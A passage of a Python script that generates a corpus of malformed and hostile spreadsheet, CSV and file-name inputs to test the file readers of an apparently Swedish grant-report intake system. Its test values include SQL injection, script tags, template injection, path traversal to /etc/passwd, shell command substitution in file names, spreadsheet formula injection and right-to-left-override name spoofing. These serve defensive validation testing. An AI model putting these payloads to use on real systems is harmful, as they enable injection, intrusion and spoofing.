    "höger till vänster": "Faktura \u202excod.\u202c \u2067abc\u2069 \u200f",
    "arabiska och hebreiska": "مرحبا שלום 123",
    "styrtecken c1": "röd \x9b31m text \x85 ny rad \x90",
    "styrtecken som text": "_x001B_[31m _x0000_ _x000D_",
    "sammansatta tecken": "Z" + "\u0335\u0321\u0353" * 200,
    "utanför bmp": "👩‍👩‍👧‍👦 🏳️‍🌈 𝔽𝕒𝕣𝕤𝕥𝕒 \U0010ffff",
    "nedbruten": "Fo\u0308ra\u0308ldragrupper a\u030a",
    "ersättningstecken": "F\ufffdr\ufffdldra",
    "ligaturer": "ﬁ ﬂ ½ Ⅷ １２３ ①",
    "mycket långt": "å" * 32_000,
    "ett enda långt ord": "x" * 32_767,
    "många rader": "rad\n" * 5_000,
    "json": '{"a": "\\u0000", "b": [1, 2]} \\" \\\\',
    "tomma värden": "NULL None nan #N/A TRUE -0 1e5",
    "citattecken": "\"'”’«» \"\" '' ;,\t|",
}

_NOT_IN_PDF = {"utanför bmp", "ligaturer"}
"""The texts with signs that no font of the PDF has."""
_IN_CSV = [name for name in TEXTS if name not in {"ersättningstecken", "styrtecken c1"}]


def _commented(text: str) -> Make:
    """A text as the comment of a cost line and as the result of an activity."""
    shown = escape(text, {"\r": "&#13;", "\n": "&#10;", "\t": "&#9;"}).encode()
    words = {COSTS_PART: b"Juli till september", ACTIVITIES_PART: b"Fler har tackat ja."}

    def change(name: str, content: bytes) -> tuple[str, bytes]:
        assert words.get(name, b"") in content
        return name, content.replace(words[name], shown) if name in words else content

    return repacked(change)


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""').replace("\r\n", "\n") + '"'


def with_texts() -> bytes:
    """A good return in which every field that takes a text holds one that is code somewhere."""
    costs = [
        {
            **COSTS[place % 4],
            "Verifikation": f"V{place}",
            "Insats": text[:900],
            "Kommentar": text,
            "Projekt": text[:200],
        }
        for place, text in enumerate(TEXTS.values())
    ]
    activities = [
        {
            "Insats": text[:900],
            "Beskrivning": text[:900],
            "Resultat": text,
            "Målgrupp": text[:500],
            "Antal kvinnor": 7,
        }
        for text in TEXTS.values()
    ]
    form = {
        "orsak_ej_forbrukat": TEXTS["html bild"],
        "kontaktperson": TEXTS["jinja"],
        "epost": TEXTS["typst"],
    }
    form |= {"intygas_av": TEXTS["html"], "intygas_befattning": TEXTS["sql"]}
    total = sum((Decimal(str(row["Belopp"])) for row in costs), Decimal(0))
    content = filled(header={**form, "summa_kostnader": total}, costs=costs, activities=activities)
    return filling.edited(content, _as_text)


def _as_text(book: Workbook) -> None:
    """The texts that openpyxl took for formulas, as the texts that somebody types with an
    apostrophe first."""
    for sheet in ("Kostnader", "Insatser"):
        for cell in (
            cell
            for row in book[sheet].iter_rows(min_row=6)
            for cell in row
            if cell.data_type == "f"
        ):
            cell.data_type = "s"


# -- single cells that are no amount and no day ----------------------------------------------------

CELLS: Files = {
    ("accepted",): {
        "formel med värde utanför": xml("<v>30000.25</v>", "<f>'[1]Blad1'!A1</f><v>30000.25</v>")
    },
    ("warned", "belopp-text"): {"belopp med nollbredd": line(2, Belopp="30\u200b000,25")},
    ("held", "datum-orimligt"): {"datum före 1900": xml("<v>45199</v>", "<v>-5</v>")},
    ("held", "belopp-olasligt"): {
        "belopp arabiska siffror": line(2, Belopp="٣٠٠٠٠"),
        "belopp hexadecimalt": line(2, Belopp="0x7530"),
        "belopp formel som text": xml(
            't="n"><v>30000.25</v>', 't="inlineStr"><is><t>=1+1</t></is>'
        ),
        "belopp html": line(2, Belopp="<b>30000</b>"),
        "belopp sql": line(2, Belopp="0); DROP TABLE line; --"),
        "belopp långt ord": line(2, Belopp="9" * 30_000),
        "belopp för stort": line(2, Belopp=1e10),
    },
    ("held", "belopp-text", "summa-stammer-inte"): {
        "belopp typografiskt minus": line(2, Belopp="−500")
    },
    ("held", "datum-olasligt"): {
        "datum html": line(2, Datum="<i>2023-09-30</i>"),
        "datum 2958466": xml("<v>45199</v>", "<v>2958466</v>"),
    },
    ("held", "omrade-okant"): {
        "område långt ord": line(2, Område="u" * 32_000),
        "område jinja": line(2, Område="{{ 7*7 }}"),
    },
    ("held", "namnd-okand"): {
        "nämnd html": fields(namnd="<script>alert(1)</script>"),
        "nämnd jinja": fields(namnd="{{ namnd }}{% raise %}"),
    },
    ("held", "bidrag-okant"): {
        "bidrag sql": fields(bidrag="' OR 1=1 --"),
        "bidrag uppåt": fields(bidrag="../../etc/passwd"),
    },
    ("held", "version-olaslig"): {"version enorm": fields(version=10**12)},
    ("held", "cell-formel-utan-varde"): {
        "formel utan värde": line(2, Belopp='=WEBSERVICE("http://x.invalid")')
    },
    ("held", "personnummer"): {
        "personnummer i bladnamn": edited(lambda b: b.create_sheet(f"Ärende {NUMBER}")),
        "personnummer med nollbredd": line(2, Kommentar="1912\u200b1212\u200d-1212"),
    },
}

SHEETS: Mapping[str, str] = {
    "bladnamn html": "<b>x<script>",
    "bladnamn jinja": "{{7}}{%x%}",
    "bladnamn formel": "=1+1",
    "bladnamn rtl": "Kost\u202exslx.exe",
    "bladnamn c1": "röd \x9b31m",
    "bladnamn nollbredd": "Kostnader\u200b",
}


def _far_comment(book: Workbook) -> None:
    book["Kostnader"]["I6"].comment = Comment("<script>alert(1)</script> {{7*7}} =1+1", "=cmd|x")


def _blank_form(book: Workbook) -> None:
    for name in ("bidrag", "namnd"):
        sheet, ref = place(book, name)
        book[sheet][ref].value = None


# -- CSV -------------------------------------------------------------------------------------------


def _replaced(old: str, new: str, count: int = -1, **how: str) -> Make:
    return as_csv(lambda text: text.replace(old, new, count), **how)


CSV: Files = {
    ("accepted",): {
        "utf-8": as_csv(),
        "utf-8 med märke": as_csv(encoding="utf-8-sig"),
        "två märken": as_csv(lambda t: "\ufeff" + t, encoding="utf-8-sig"),
        "utf-16": as_csv(encoding="utf-16"),
        "utf-16 stor ände": as_csv(lambda t: "\ufeff" + t, encoding="utf-16-be"),
        "komma": as_csv(delimiter=","),
        "sep": as_csv(lambda t: "sep=;\r\n" + t),
        "radslut av alla slag": as_csv(
            lambda t: t.replace("\r\n", "\n", 2).replace("\r\n", "\r", 1)
        ),
        "avslutande skiljetecken": as_csv(lambda t: t.replace("\r\n", ";;;\r\n")),
        "rader utan slut": as_csv(lambda t: t + "\n" * 50_000),
        "tom första rad": as_csv(lambda t: "\r\n" + t),
        "blanka rader före": as_csv(lambda t: " \n;;;;\n\t\n" + t),
        "blank rad före sep": as_csv(lambda t: "\nsep=;\n\n" + t),
        "slut på filen i dos": as_csv(lambda t: t + "\x1a"),
        "slut på filen på sista raden": as_csv(lambda t: t.rstrip() + "\x1a\x1a\r\n"),
        "fyllt block": as_csv(lambda t: t + "\x1a" + "\0" * 100),
        "slut på filen i utf-16": as_csv(lambda t: t + "\x1a", encoding="utf-16"),
        "skiljetecken utan slut": as_csv(lambda t: t.replace("\r\n", ";" * 300 + "\r\n")),
        "tomma rader": as_csv(lambda t: t.replace("\r\n", "\r\n\r\n") + ";;;;\r\n"),
        **{
            f"text {name}": _replaced("Juli till september", _quoted(TEXTS[name]))
            for name in _IN_CSV
        },
    },
    ("warned", "csv-tabbar"): {
        "tabbar": as_csv(lambda t: t.replace(";", "\t")),
        "tabbar med sep": as_csv(lambda t: "sep=\t\n" + t.replace(";", "\t")),
        "unicode-text": as_csv(lambda t: t.replace(";", "\t"), encoding="utf-16"),
    },
    ("warned", "csv-tabbar", "csv-windows-1252"): {
        "text från Excel": as_csv(lambda t: t.replace(";", "\t"), encoding="cp1252"),
    },
    ("warned", "csv-windows-1252"): {
        "windows-1252": as_csv(lambda t: t + "\r\n", encoding="cp1252")
    },
    ("held", "csv-blandat"): {
        "blandade nämnder": _replaced(
            ";farsta;2023-12-31;1;Hembesök", ";bromma;2023-12-31;1;Hembesök", 1
        ),
    },
    ("held", "belopp-olasligt"): {"formel som belopp": _replaced(";12000;", ";=6000*2;")},
    ("refused", "csv-inte-text"): {
        "utf-16 utan märke": as_csv(lambda t: t + "\n", encoding="utf-16-le"),
        "utf-32": as_csv(lambda t: t + "\n", encoding="utf-32"),
        "nul": _replaced("V2", "V\0"),
        "slut på filen mitt i": _replaced("V2", "V2\x1a"),
        "esc": _replaced("V2", "\x1b[31mV2"),
        "backsteg": _replaced("12000", "1\x082000"),
    },
    ("refused", "csv-teckenkod"): {
        "utf-16 klippt": lambda: as_csv(encoding="utf-16")()[:-1],
        "dos": as_csv(lambda t: t + "\n", encoding="cp437"),
        "dos 850": as_csv(lambda t: t + "\n", encoding="cp850"),
        "gammal mac": as_csv(lambda t: t + "\n", encoding="mac-roman"),
        "dubbelkodad": as_csv(lambda t: t.encode().decode("cp1252", "replace")),
        "dubbelkodad mac": as_csv(lambda t: t.encode().decode("mac-roman")),
        "trasig utf-8": lambda: as_csv()().replace("ö".encode(), b"\xf6\x81", 1),
        "ersättningstecken": _replaced("ö", "\ufffd"),
    },
    ("refused", "csv-skiljetecken"): {
        "lodstreck": as_csv(lambda t: t.replace(";", "|")),
        "kolon": as_csv(lambda t: t.replace(";", ":")),
    },
    ("refused", "csv-rad"): {
        "kort rad": _replaced(";12000;", ";12000"),
        "lång rad": _replaced(";12000;", ";12000;x;y"),
    },
    ("refused", "csv-citattecken"): {
        "öppet citattecken": _replaced(";V2;", ';"V2;'),
        "öppet citattecken i slutet": _replaced("Rättelse av V2", '"Rättelse av V2'),
        "text efter citattecken": _replaced(";V2;", ';"V"2;'),
        "jättelikt fält": _replaced("V2", '"' + "x" * 200_000 + '"'),
    },
    ("refused", "text-for-lang"): {"för lång text": _replaced("Rättelse av V2", "x" * 40_000)},
    ("refused", "csv-decimalkomma"): {
        "decimalkomma mellan komman": _replaced("40000.50", "40000,50", delimiter=","),
        "decimalkomma utan slut": _replaced("40000.50,\r", "40000,50\r", delimiter=","),
    },
    ("refused", "csv-rubriker"): {
        "utan rubriker": as_csv(lambda t: t.split("\r\n", 1)[1]),
        "rubrik två gånger": _replaced("konto;", "belopp;", 1),
        "lodstreck med sep": as_csv(lambda t: "sep=|\n" + t.replace(";", "|")),
    },
    ("refused", "csv-utan-rader"): {"bara rubriker": as_csv(lambda t: t.split("\r\n")[0])},
    ("refused", "fil-for-manga-rader"): {
        "rubriker utan slut": as_csv(lambda t: ";".join(f"k{n}" for n in range(1000)) + ";" + t),
        "långt ner": as_csv(lambda t: "\n" * 50_000 + t),
    },
}

# -- names, and what is no file --------------------------------------------------------------------

NAMES: tuple[str, ...] = (
    *(
        "rad\nbryt.xlsx",
        "färg\x1b[31m.xlsx",
        "klocka\x07.xlsx",
        "höger\u202exslx.exe",
        "noll\u200bbredd.xlsx",
    ),
    *("<img src=x onerror=alert(1)>.xlsx", "{{ 7*7 }}{% x %}.xlsx", "=1+1.xlsx", "@SUM(A1).xlsx"),
    *(
        "'; DROP TABLE x; --.xlsx",
        "-rf.xlsx",
        "$(id) `id` | id.xlsx",
        "%s%n{0}.xlsx",
        "fo\u0308rsta.xlsx",
    ),
    *(
        "👩‍👧.xlsx",
        "FARSTA.XLSX",
        "utan ändelse",
        "rapport.pdf",
        "\udce4\udcff.xlsx",
        "punkt..xlsx",
        "CON.xlsx",
    ),
    *(f"{'å' * 120}.xlsx", " blank först.xlsx", "mapp/under/djupt.xlsx"),
)
"""Good returns under names that are code somewhere, or that nobody can see."""


def _link(to: str) -> Callable[[Path], object]:
    return lambda path: path.symlink_to(to)


def _file(make: Make) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(make())


def _socket(path: Path) -> None:
    """A socket under a name; its address is told by the folder, since addresses are short."""
    here = os.open(path.parent, os.O_RDONLY)
    try:
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(f"/proc/self/fd/{here}/{path.name}")
    finally:
        os.close(here)


NO_FILES: Mapping[str, Callable[[Path], object]] = {
    "länk till en redovisning.xlsx": _link("utf-8.csv"),
    "länk till ingenting.xlsx": _link("finns inte"),
    "länk till sig själv.xlsx": _link("länk till sig själv.xlsx"),
    "länk till en mapp": _link("/etc"),
    "länk utan slut.xlsx": _link("/dev/zero"),
    "rör.xlsx": os.mkfifo,
    "uttag.xlsx": _socket,
}
LEFT_BEHIND = (
    "~$farsta.xlsx",
    ".~lock.farsta.xlsx#",
    "._farsta.xlsx",
    ".DS_Store",
    "Thumbs.db",
    "desktop.ini",
)
"""What programs leave in a folder, and nobody has sent."""


def corpus() -> Iterator[Odd]:
    """Every file, in no particular order; the names are apart."""
    for name, (content, rule) in OTHER_KINDS.items():
        yield Odd(name, _file(raw(content)), "refused", (rule,))
    for kind, suffix, files in (
        *(
            ("zip", ".xlsx", ZIPS),
            ("xml", ".xlsx", XML),
            ("utseende", ".xlsx", LOOKS),
            ("aktiv", ".xlsx", ACTIVE),
            ("cell", ".xlsx", CELLS),
        ),
        ("csv", ".csv", CSV),
    ):
        for (outcome, *rules), makes in files.items():
            for name, make in makes.items():
                yield Odd(f"{kind} {name}{suffix}", _file(make), outcome, tuple(rules))
    for name, text in TEXTS.items():
        note = ("tecken-inte-i-pdf",) if name in _NOT_IN_PDF else ()
        yield Odd(f"text {name}.xlsx", _file(_commented(text)), "accepted", note)
    for name, title in SHEETS.items():
        yield Odd(f"{name}.xlsx", _file(_titled(title)), "accepted")
    yield Odd("anteckning.xlsx", _file(edited(_far_comment)), "accepted")
    yield Odd("utan avsändare.xlsx", _file(edited(_blank_form)), "held", ("obligatorisk-cell-tom",))
    for name in NAMES:
        yield Odd(name, _file(good), "accepted")
    for number in (NUMBER, NUMBER.replace("-", "+"), "191212121212"):
        yield Odd(f"farsta {number}.xlsx", _file(good), "held", ("personnummer",))
    for name, put in NO_FILES.items():
        yield Odd(name, put, "skipped", ("fil-ar-ingen-fil",))
    for name in LEFT_BEHIND:
        yield Odd(name, _file(good), "skipped")


def write(folder: Path) -> list[Odd]:
    """Write the whole corpus into a folder."""
    files = list(corpus())
    for odd in files:
        path = folder / odd.name
        path.parent.mkdir(parents=True, exist_ok=True)
        odd.put(path)
    return files


# -- what reading them costs -----------------------------------------------------------------------


@dataclass(frozen=True)
class Cost:
    """What both readers took for one file: processor seconds, and the most memory that the child
    has had, in bytes."""

    returned: Return
    total: object
    cpu_seconds: float
    peak_bytes: int


def measured(path: Path, name: str) -> Cost:
    """Read a file by both readers, in a child process."""
    begun = time.process_time()
    returned = intake.read(path, name)
    total = None
    if returned.kind in {"xlsx", "csv"}:
        with suppress(second_reader.UnreadableError):
            total = second_reader.total(path, name, returned.sha256)
    return Cost(returned, total, time.process_time() - begun, _peak_bytes())


def _peak_bytes() -> int:
    """The most memory that this process has had. `getrusage` would count that of the parent it was
    forked from too."""
    (told,) = re.findall(
        r"^VmHWM:\s+(\d+) kB$", Path("/proc/self/status").read_text("utf-8"), re.MULTILINE
    )
    return int(told) * 1024


if __name__ == "__main__":
    asked = argparse.ArgumentParser(description=__doc__)
    asked.add_argument("--to", type=Path, required=True, metavar="FOLDER")
    to = asked.parse_args().to
    to.mkdir(parents=True, exist_ok=True)
    print(f"{len(write(to))} files in {to}")
